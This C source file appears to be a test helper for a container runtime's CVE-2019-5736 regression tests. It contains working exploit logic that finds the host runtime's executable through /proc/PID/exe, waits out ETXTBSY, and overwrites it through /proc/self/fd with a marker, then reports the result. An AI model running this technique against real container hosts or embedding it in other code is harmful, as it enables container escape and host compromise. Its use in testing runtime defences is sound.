/* SPDX-License-Identifier: Apache-2.0 */
/* CVE-2019-5736 attacker (BinaryCloneTests), static. "attack catch RESULT": waits for another process to appear in the
 * container (an exec'd runtime) and opens its /proc/PID/exe read-only; "attack fd N RESULT": fd N
 * (inherited from evil.so) is the runtime's binary. Then waits until nothing executes that file any
 * more (ETXTBSY) and writes it through /proc/self/fd/N. The outcome goes to RESULT. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void report(const char *out, const char *what, int err, const char *target)
{
	char tmp[4096];
	snprintf(tmp, sizeof tmp, "%s.tmp", out);
	FILE *f = fopen(tmp, "w");
	if (f == NULL)
		return;
	fprintf(f, "%s %s %s\n", what, err ? strerrorname_np(err) : "OK", target);
	fclose(f);
	rename(tmp, out);
}

static int catch_exe(void)
{
	char path[64];
	int self = getpid();

	for (;;) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		if (d == NULL)
			return -1;
		while ((e = readdir(d)) != NULL) {
			int pid = atoi(e->d_name);
			if (pid <= 1 || pid == self)
				continue;
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			int fd = open(path, O_RDONLY);
			if (fd >= 0) {
				closedir(d);
				return fd;
			}
		}
		closedir(d);
		usleep(1000);
	}
}

int main(int argc, char **argv)
{
	char path[64], target[1024] = "?";
	const char *out;
	int fd;

	if (argc == 3 && strcmp(argv[1], "catch") == 0)
		fd = catch_exe();
	else if (argc == 4 && strcmp(argv[1], "fd") == 0)
		fd = atoi(argv[2]);
	else
		return 2;
	out = argv[argc - 1];
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	ssize_t n = readlink(path, target, sizeof target - 1);
	target[n > 0 ? n : 1] = 0;
	for (int i = 0; i < 6000; i++) { /* up to 60 s */
		int w = open(path, O_WRONLY);
		if (w < 0 && errno == ETXTBSY) {
			usleep(10000);
			continue;
		}
		if (w < 0) {
			report(out, "open-wr", errno, target);
			return 0;
		}
		if (pwrite(w, "EVIL", 4, 0) != 4) {
			report(out, "write", errno, target);
			return 0;
		}
		report(out, "wrote", 0, target);
		return 0;
	}
	report(out, "open-wr", ETXTBSY, target);
	return 0;
}
